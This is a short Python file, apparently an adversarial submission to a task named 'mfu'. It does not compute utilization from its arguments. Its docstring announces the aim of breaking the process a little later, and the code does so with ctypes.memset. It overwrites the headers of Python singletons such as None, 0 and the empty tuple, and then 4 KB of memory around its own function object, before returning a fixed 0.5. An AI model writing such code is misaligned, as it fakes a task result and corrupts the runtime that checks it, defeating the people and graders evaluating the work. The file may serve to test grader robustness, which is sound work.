"""problem: mfu

Overwrite Python's own objects, so that the process breaks a little later.
"""

import ctypes


def mfu(flops, seconds, promised_flop_per_sec):
    for value in (1.0, 0, (), "", None):
        ctypes.memset(id(value) + 8, 0x41, 8)
    for address in range(id(mfu), id(mfu) + 4096, 64):
        ctypes.memset(address, 0x41, 64)
    return 0.5
